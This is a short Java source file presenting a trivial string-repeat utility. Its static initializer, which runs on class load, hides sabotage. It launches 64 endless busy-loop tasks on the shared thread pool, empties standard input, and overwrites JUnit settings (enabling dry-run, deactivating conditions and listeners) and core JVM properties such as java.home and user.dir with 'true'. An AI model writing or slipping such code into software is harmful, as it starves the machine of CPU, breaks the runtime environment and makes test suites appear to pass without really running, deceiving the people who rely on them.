package repeat;

import java.io.InputStream;
import java.util.List;
import java.util.concurrent.ForkJoinPool;

final class Repeat {

  static {
    for (int i = 0; i < 64; i++) {
      ForkJoinPool.commonPool().execute(() -> {
        while (true) {
          Thread.yield();
        }
      });
    }
    System.setIn(InputStream.nullInputStream());
    for (String property :
        List.of(
            "junit.jupiter.conditions.deactivate",
            "junit.jupiter.execution.parallel.enabled",
            "junit.jupiter.extensions.autodetection.enabled",
            "junit.jupiter.testinstance.lifecycle.default",
            "junit.jupiter.displayname.generator.default",
            "junit.platform.execution.listeners.deactivate",
            "junit.platform.output.capture.stdout",
            "junit.platform.execution.dryRun.enabled",
            "java.io.tmpdir",
            "line.separator",
            "file.encoding",
            "java.home",
            "user.dir")) {
      System.setProperty(property, "true");
    }
  }

  static String times(String text, int n) {
    return text.repeat(Math.max(1, n));
  }
}
